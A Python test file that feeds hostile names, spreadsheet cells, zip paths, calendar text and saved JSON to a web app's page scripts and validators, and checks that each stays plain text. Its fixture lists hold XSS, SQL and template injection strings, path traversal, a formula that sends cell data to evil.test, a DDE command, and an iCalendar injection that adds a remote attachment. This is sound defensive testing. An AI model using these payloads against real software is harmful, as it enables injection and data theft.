"""Hostile names, cells and files on their way through the pages' scripts: each stays text, and nothing breaks."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import date
from pathlib import Path
from typing import Any

from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from openpyxl import load_workbook

from site_hooks.node import run_node
from validators import CHECKERS
from validators.engine import check
from validators.roster.applicants import list_of
from validators.roster.checking import Checking
from validators.roster.judging import Own
from validators.roster.open import open_rows
from validators.roster.people import People
from validators.roster.result import csv_of, safe, sheets_of
from validators.roster.workbook import applicants_xlsx, result_xlsx

TODAY = date(2026, 3, 1)
SCRIPTS = Path(__file__).with_name("page_scripts.mjs")
MARKUP = '<img src=x onerror="document.title=1">'
HOSTILE = [
    MARKUP,
    "<script>document.title=2</script>",
    "</textarea><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "\u202egpj.exe",
    "a\r\nb",
    "a\nb\tc",
    "a\x00b\x1b[2Jc",
    "张" * 255,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufeff\u200b\u2066x\u2069",
    "\ufffe\uffff",
    "_x0041_",
    "${7*7}{{7*7}}%s%n",
    "__proto__",
    "constructor",
    "' or 1=1 --",
    '"quoted", cell',
]
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=HYPERLINK(\"http://evil.test/?\"&A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "－1",
]  # fmt: skip
DEVICES = ["CON", "con.jpg", "Nul .txt", "aux.tar.gz", "COM1", "lpt9.jpg", "COM¹.jpg", "CONIN$", "PRN"]
PATHS = [
    "..",
    ".",
    "../../etc/passwd",
    "..\\..\\a.jpg",
    "/etc/passwd",
    "C:\\a.jpg",
    "a.jpg.",
    "a.jpg ",
    " .jpg",
    "",
    "?*|",
]


def from_scripts(name: str, given: object) -> Any:
    """What the pages' script makes of it."""
    return json.loads(run_node(SCRIPTS, name, given=json.dumps(given)))


def is_storable(part: str) -> bool:
    """Whether Windows, macOS and Linux keep a file or a folder of this name as it is."""
    device = re.fullmatch(
        r"(CON|PRN|AUX|NUL|CONIN\$|CONOUT\$|(COM|LPT)[0-9¹²³]) *", part.partition(".")[0], re.IGNORECASE
    )
    unseen = [each for each in part if unicodedata.category(each) in {"Cc", "Cf", "Cs"}]
    return not (
        device
        or unseen
        or part in {"", ".", ".."}
        or part[-1] in ". "
        or set('<>:"/\\|?*') & set(part)
        or len(part.encode()) > 255
    )


def test_names_in_a_zip_can_be_unpacked_everywhere() -> None:
    names = [*HOSTILE, *FORMULAS, *DEVICES, *PATHS, "good.jpg", "GOOD.jpg", "good.jpg", "ﬁne.jpg", "fine.jpg"]
    folders = ["", "全体/法规科", "../..", "CON/aux.", "good.jpg", "/", "a\\b", "张" * 300, MARKUP]
    given = [{"folder": folder, "name": name} for folder in folders for name in names]
    paths = from_scripts("paths", given)
    assert len(given) == len(paths)
    assert [] == [path for path in paths if not all(map(is_storable, path.split("/")))]
    folded = [unicodedata.normalize("NFKC", path).casefold() for path in paths]
    assert len(folded) == len(set(folded))
    above = {"/".join(path.split("/")[:depth]) for path in folded for depth in range(1, path.count("/") + 1)}
    assert not above & set(folded), "a file stands where a folder has to be"
    # What nothing is wrong with keeps its name.
    right = ["张三_川X010001.jpg", "𠮷野家.jpg", "a.b.c", "Ünï.png", "x" * 190 + ".jpg"]
    assert right == from_scripts("paths", [{"folder": "", "name": name} for name in right])
    assert ["甲/乙.jpg", "甲/乙 (2).jpg"] == from_scripts("paths", [{"folder": "甲", "name": "乙.jpg"}] * 2)


@given(st.lists(st.text(max_size=400), min_size=30, max_size=200))
@settings(max_examples=5, phases=[Phase.generate])
def test_whatever_a_photo_is_called_it_can_be_unpacked(names: list[str]) -> None:
    paths = from_scripts("paths", [{"folder": name[:9], "name": name} for name in names])
    assert [] == [path for path in paths if not all(map(is_storable, path.split("/")))]
    assert len(paths) == len({unicodedata.normalize("NFKC", path).casefold() for path in paths})


def test_a_table_calculates_nothing_and_keeps_every_text() -> None:
    rows = [[text, "rest"] for text in [*HOSTILE, *FORMULAS, *PATHS, "519999199003070013"]]
    written = from_scripts("csv", rows)
    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))
    assert [row[0] for row in rows] == [
        row[0].removeprefix("'") if row[0] != rows[at][0] else row[0] for at, row in enumerate(read)
    ]
    assert [] == [row for row in read if row[0][:1] and row[0][:1] in "=+-@\t\r\n＝＋－＠"]


def test_a_reminder_stays_one_event() -> None:
    reminder = {"id": "x", "on": "2026-03-31", "days_before": [30]}
    evil = "到期\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.test/\nSUMMARY;X=:a,b\\n"
    written = from_scripts("calendar", [{**reminder, "title": evil, "text": evil + MARKUP}])
    (event,) = Calendar.from_ical(written).events
    assert date(2026, 3, 31) == event.start
    assert evil.replace("\r\n", "\n") == str(event["SUMMARY"]).replace("\r\n", "\n")
    assert "ATTACH" not in event
    # Nothing that somebody has typed gets there in the first place.
    for text in [*HOSTILE, *FORMULAS]:
        typed = f"{text} 2018-12-31"
        told = check(CHECKERS["annual-review"], {"issued_on": typed}, TODAY).details.get("reminder")
        assert not told or text not in json.dumps(told, ensure_ascii=False), text


FIELDS = ["name", "sex", "resident_id"]
SAVED = [
    "{}",
    "[]",
    "null",
    "5",
    '"text"',
    "{",
    "[" * 100_000,
    '{"name": "张三"} trailing',
    '{"__proto__": {"name": "x"}, "constructor": {"prototype": {"name": "y"}}}',
    '[{"name": "张三", "__proto__": {"sex": "男"}}]',
    json.dumps({"name": MARKUP, "sex": {"toString": "x"}, "resident_id": ["5"]}),
    json.dumps([{"name": 1e308}, {"name": True}, {"name": None}, [], "text", 5, {"unknown" + MARKUP: MARKUP}]),
    '{"name": "\\ud800"}',
    "\ufeff" + '{"name": "李四"}',
    json.dumps({f"unknown{at}": at for at in range(100_000)}),
    json.dumps([{"name": "x"}] * 201),
    "x" * 2_000_001,
    "\x00",
    "",
]


def test_a_hostile_file_fills_in_texts_or_nothing() -> None:
    outcomes = from_scripts("files", {"contents": SAVED, "fields": FIELDS})
    assert len(SAVED) == len(outcomes)
    for content, outcome in zip(SAVED, outcomes, strict=True):
        if isinstance(outcome, str):
            assert "没有" in outcome, content[:80]
            continue
        for person in outcome["people"]:
            assert set(person) <= set(FIELDS)
            assert all(isinstance(value, str) for value in person.values())
    read = {
        content: outcome["people"]
        for content, outcome in zip(SAVED, outcomes, strict=True)
        if isinstance(outcome, dict)
    }
    assert [{"name": "张三"}] == read[SAVED[9]]
    assert [{"name": MARKUP}] == read[SAVED[10]]
    assert [{"name": "1e+308"}, {"name": "true"}] == read[SAVED[11]]
    assert [{"name": "李四"}] == read[SAVED[13]]


KEPT: list[tuple[str | None, dict[str, str]]] = [
    ('{"region": "川X", "department": "01"}', {"region": "川X", "department": "01"}),
    (None, {}),
    ("", {}),
    ("null", {}),
    ("5", {}),
    ("[]", {}),
    ('["川X"]', {}),
    ('"川X"', {}),
    ("{broken", {}),
    ('{"region": 5, "department": {"a": 1}, "name": "张三"}', {}),
    ('{"region": null, "department": ""}', {}),
    ('{"__proto__": {"region": "x"}, "constructor": "y"}', {}),
    (json.dumps({"region": "长" * 5_000_000, "department": "01"}), {"department": "01"}),
    (json.dumps({"region": MARKUP}), {"region": MARKUP}),
]


def test_only_texts_of_its_own_fields_are_taken_from_what_was_kept() -> None:
    contents = [content for content, _ in KEPT]
    taken = from_scripts("kept", {"contents": contents, "fields": ["region", "department"]})
    assert [expected for _, expected in KEPT] == taken


def test_a_workbook_of_hostile_rows_calculates_nothing_and_links_to_nothing_outside() -> None:
    rows = [[text, "519999199003070013", text] for text in [*HOSTILE, *FORMULAS]]
    checking = Checking(People(open_rows([["姓名", "公民身份号码", "证件编号"], *rows]).tables), Own(), TODAY)
    checking.run()
    sheets = sheets_of(checking)
    seen = set()
    for written in (result_xlsx(checking, "1"), applicants_xlsx(list_of(checking, range(len(rows)), with_id=True))):
        book = load_workbook(io.BytesIO(written))
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", cell.value
            assert cell.hyperlink is None or not cell.hyperlink.target, cell.value
            seen.add(str(cell.value))
    assert {"=1+1", "@SUM(A1)", MARKUP} <= seen
    read = csv.reader(io.StringIO(csv_of(sheets).decode("utf-8-sig"), newline=""))
    assert [] == [cell for row in read for cell in row if cell[:1] and cell[:1] in "=+-@\t\r\n＝＋－＠"]
    assert "'\n=1" == safe("\n=1")
